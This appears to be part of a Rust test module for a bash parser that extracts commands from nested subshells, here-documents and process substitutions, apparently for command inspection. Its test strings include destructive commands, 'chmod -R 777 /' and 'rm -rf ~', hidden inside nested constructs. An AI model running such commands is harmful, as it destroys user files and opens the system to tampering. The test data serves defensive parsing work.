                Stage::Simple(s) => {
                    let mut line: Vec<String> = s.words.iter().map(|w| w.source.clone()).collect();
                    for r in &s.redirects {
                        if let Redirect::Input { body } = r {
                            line.push(format!("<<{}", body.source.trim_end()));
                        }
                    }
                    for w in &s.words {
                        for p in &w.parts {
                            if let Part::ProcSubst { script, .. } = p {
                                commands(script, out);
                            }
                        }
                    }
                    out.push(line.join(" "));
                }
                Stage::Group(g) => {
                    for r in &g.redirects {
                        if let Redirect::Sub { script } = r {
                            commands(script, out);
                        }
                    }
                    commands(&g.body, out);
                    for b in &g.branches {
                        commands(b, out);
                    }
                }
            }
        }
    }

    #[test]
    fn doubled_parentheses_that_are_not_arithmetic_keep_their_here_documents() {
        // Each text either reads exactly as bash runs it, or is refused: never mangled.
        let cases: &[(&str, Option<&str>)] = &[
            // `((` whose parentheses do not close together: nested subshells.
            (
                "((sh <<EOF\nchmod -R 777 /\nEOF\n) )",
                Some("sh <<chmod -R 777 /"),
            ),
            (
                "( (sh <<EOF\nchmod -R 777 /\nEOF\n))",
                Some("sh <<chmod -R 777 /"),
            ),
            ("( ( rm -rf ~ ) )", Some("rm -rf ~")),
            ("((rm -rf ~) )", Some("rm -rf ~")),
            (
                "( (sh <<-'EOF'\n\tchmod -R 777 /\n\tEOF\n))",
                Some("sh <<chmod -R 777 /"),
            ),
            (
                "( (cat <<A <<\"B\"\na\nA\nrm -rf ~\nB\n))",
                Some("cat <<a <<rm -rf ~"),
            ),
            // Arithmetic stays arithmetic.
            ("(( x = 1 + 2 ))", Some("")),
            // Process substitution of a subshell holding a here-document: the parser cuts the
            // body and swallows a word, so it is refused.
            ("cat <((sh <<EOF\nchmod -R 777 /\nEOF\n))", None),
            ("cat <((sh <<-EOF\n\tchmod -R 777 /\n\tEOF\n))", None),
            ("cat <((sh <<'EOF'\nchmod -R 777 /\nEOF\n))", None),
            ("cat >((sh <<EOF\nchmod -R 777 /\nEOF\n))", None),
            // A here-document whose body lies outside the re-read parentheses.
            ("((sh <<EOF) )\nchmod -R 777 /\nEOF\n", None),
            // Ordinary here-documents read in place.
            (
                "cat <(sh <<EOF\nchmod -R 777 /\nEOF\n)",
                Some("sh <<chmod -R 777 /"),
            ),
            ("sh <<EOF\nchmod -R 777 /\nEOF", Some("sh <<chmod -R 777 /")),
            ("cat <<A; cat <<B\na\nA\nb\nB\n", Some("cat <<a")),
        ];
        for (text, want) in cases {
            let got = parse(text).map(|script| {
                let mut out = Vec::new();
                commands(&script, &mut out);
                out
            });
            match (want, got) {
                (Some(want), Ok(got)) => assert!(
                    got.iter().any(|c| c == want) || (want.is_empty() && got.is_empty()),
                    "{text:?}: {got:?}"
                ),
                (None, Err(_)) => {}
                (want, got) => panic!("{text:?}: want {want:?}, got {got:?}"),
            }
        }
    }

    #[test]
    fn nesting_depth_table() {
        let deep = "(".repeat(100);
        let cases: &[(&str, usize)] = &[
            ("ls", 0),
            ("(a)", 1),
            ("$(a $(b))", 2),
            ("if a; then if b; then c; fi; fi", 2),
            (deep.as_str(), 100),
        ];
        for (text, want) in cases {
            assert_eq!(nesting_depth(text), *want, "{text}");
        }
        assert!(parse(&deep).unwrap_err().contains("nesting"));
    }

    #[test]
    fn deep_but_allowed_nesting_parses_without_overflow() {
        let text = format!("{}ls{}", "(".repeat(60), ")".repeat(60));
        assert!(parse(&text).is_ok());
        let text = format!("{}ls{}", "$(".repeat(60), ")".repeat(60));
        assert!(parse(&text).is_ok());
    }
}
